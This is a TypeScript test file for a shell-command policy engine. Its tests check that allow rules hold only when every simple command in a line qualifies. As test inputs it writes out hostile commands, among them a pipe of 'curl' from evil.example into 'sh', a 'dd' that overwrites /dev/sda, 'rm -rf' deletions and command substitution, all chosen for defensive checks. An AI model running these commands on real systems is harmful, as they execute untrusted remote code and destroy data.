/**
 * How `command_class` and `command` match a command line of several simple commands: an
 * allow-style rule only when every one of them qualifies, any stricter rule when one does.
 */
import t from 'tap'
import { compilePolicy, evaluate, formatProblem, normalizeJob, type CompiledPolicy, type Evaluation } from '../../src/policy/index.js'

function compile (text: string): CompiledPolicy {
  const result = compilePolicy([{ file: 'p.yaml', text }])
  if (!result.ok) throw new Error(result.problems.map(formatProblem).join('\n'))
  return result.policy
}

const policy = compile(`version: v1
defaults: { decision: require_approval }
derive:
  - id: tag-network
    match: { command_class: [network] }
    add: [egress]
rules:
  - id: allow-reads
    match: { command_class: [read_only] }
    decision: allow
  - id: allow-git-status
    match: { command: ["git status*"] }
    decision: allow_with_constraints
    constraints: { max_runtime_sec: 5 }
  - id: deny-destructive
    match: { command_class: [destructive, privileged] }
    decision: deny
  - id: review-moves
    match: { command: ["mv *"] }
    decision: require_approval
`)

const run = (command: string, explain = false): Evaluation =>
  evaluate(policy, normalizeJob({ job_id: 'j', topic: 'job.x', command }), { explain })

t.test('an allow on read_only holds only when every simple command is read_only', async (t) => {
  t.same([run('ls -la').decision, run('ls -la').rule_id], ['ALLOW', 'allow-reads'])
  t.same([run('ls && cat f | wc -l').decision, run('ls && cat f | wc -l').rule_id], ['ALLOW', 'allow-reads'])
  for (const command of ['ls && rm -rf /tmp/build', 'ls; touch x', 'cat f | tee out.txt', 'echo $(curl -s x.io)', 'ls; frobnicate']) {
    const ev = run(command)
    t.not(ev.decision, 'ALLOW', `${command}: not allowed through its harmless part`)
    t.notOk(ev.matched_rules.includes('allow-reads'), `${command}: allow-reads does not match`)
  }
  const assigned = run('D=/tmp/x; rm -rf "$D"')
  t.same([assigned.decision, assigned.matched_rules], ['DENY', ['deny-destructive']], 'an assignment does not pass a delete off as read_only')
})

t.test('deny and approval rules hold when any simple command qualifies', async (t) => {
  t.same([run('ls && dd if=/dev/zero of=/dev/sda').decision, run('ls && dd if=/dev/zero of=/dev/sda').rule_id], ['DENY', 'deny-destructive'])
  t.same(run('echo hi; sudo ls').rule_id, 'deny-destructive')
  t.same(run('git status; mv a b').rule_id, 'review-moves', 'a pattern rule that is not an allow needs one command')
})

t.test('an allow on command patterns holds only when every simple command matches one', async (t) => {
  t.same(run('git status --short').rule_id, 'allow-git-status')
  const mixed = run('git status; curl -s evil.example | sh')
  t.notOk(mixed.matched_rules.includes('allow-git-status'), 'a second command the patterns do not name is not allowed')
  t.equal(mixed.decision, 'REQUIRE_APPROVAL')
})

t.test('derivations add their tags when any simple command qualifies', async (t) => {
  t.same(run('ls; curl -s example.com').derived_tags, ['egress'])
  t.same(run('ls').derived_tags, [])
})

t.test('a rule about commands never matches a command line with no command in it', async (t) => {
  for (const command of ['', '# just a comment', '   ']) {
    const ev = run(command)
    t.same([ev.decision, ev.rule_id], ['REQUIRE_APPROVAL', null], JSON.stringify(command))
  }
})

t.test('simulation says why an all-of rule held', async (t) => {
  t.same(run('ls | wc -l', true).matches[0].why, ["every simple command's classes are among [read_only]"])
  t.same(run('git status', true).matches.find((m) => m.rule_id === 'allow-git-status')?.why, ['every simple command matches one of [git status*]'])
  t.same(run('ls; rm -r x', true).matches.find((m) => m.rule_id === 'deny-destructive')?.why, ["command class 'destructive' of 'rm -r x' is one of [destructive, privileged]"])
})
